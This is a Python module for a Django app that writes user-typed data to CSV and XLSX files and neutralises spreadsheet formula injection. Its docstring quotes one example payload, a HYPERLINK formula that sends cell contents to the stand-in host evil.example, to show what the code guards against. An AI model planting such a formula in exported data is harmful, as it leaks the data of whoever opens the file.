"""Writing spreadsheets people will open in Excel or LibreOffice, without formula injection.

A cell whose text starts with =, +, - or @ (or a tab or carriage return, which some programs skip
before reading one of those) is run as a formula when the file is opened: a participant named
`=HYPERLINK("https://evil.example/?"&A1, "Click")` would leak the sheet. Every export of text that
people typed goes through neutralise() / write_csv() / write_xlsx(), which put an apostrophe first:
spreadsheet programs show the text as typed and never run it. Numbers and dates are left as they are.

XLSX files are written by openpyxl (a maintained library; tests read them back with it). Every text
cell is written as a text cell, never a formula, and is neutralised as well, so a sheet saved again
as CSV stays safe."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from typing import IO, Any

from django.http import HttpResponse
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font

_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Characters an XLSX file cannot hold (XML 1.0 forbids most control characters): dropped.
_NOT_IN_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
_SHEET_NAME_LIMIT = 31
_BOLD = Font(bold=True)

CONTENT_TYPES = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}


def neutralise(value: Any) -> Any:
    """The cell as it should be written: text that a spreadsheet would run gets a leading apostrophe."""
    if isinstance(value, str) and value.startswith(_FORMULA_STARTS):
        return "'" + value
    return value


def write_csv(out: IO[str], rows: Iterable[Iterable[Any]]) -> None:
    """CSV for spreadsheets (CRLF line ends), every text cell neutralised."""
    writer = csv.writer(out, lineterminator="\r\n")
    for row in rows:
        writer.writerow([neutralise(cell) for cell in row])


def write_xlsx(out: IO[bytes], rows: Iterable[Iterable[Any]], *, sheet: str) -> None:
    """An XLSX workbook of one sheet named `sheet`; the first row is bold (the header). Every text
    cell is neutralised and stored as text (openpyxl would otherwise make "=…" a formula)."""
    book = Workbook(write_only=True)
    page = book.create_sheet(title=re.sub(r"[\[\]:*?/\\]", " ", sheet)[:_SHEET_NAME_LIMIT])
    for n, row in enumerate(rows):
        cells = []
        for value in row:
            cell = WriteOnlyCell(page)
            if isinstance(value, str):
                # Set after construction: the constructor would read a leading "=" as a formula.
                cell.value = _NOT_IN_XML.sub("", neutralise(value))
                cell.data_type = "s"
            else:
                cell.value = value
            if n == 0:
                cell.font = _BOLD
            cells.append(cell)
        page.append(cells)
    book.save(out)


def download(rows: list[list[Any]], *, name: str, fmt: str, sheet: str = "Sheet 1") -> HttpResponse:
    """An attachment `name`.csv or `name`.xlsx holding `rows` (the first is the header)."""
    if fmt == "xlsx":
        binary = io.BytesIO()
        write_xlsx(binary, rows, sheet=sheet)
        body: bytes | str = binary.getvalue()
    else:
        text = io.StringIO()
        write_csv(text, rows)
        body, fmt = text.getvalue(), "csv"
    response = HttpResponse(body, content_type=CONTENT_TYPES[fmt])
    response["Content-Disposition"] = f'attachment; filename="{name}.{fmt}"'
    return response
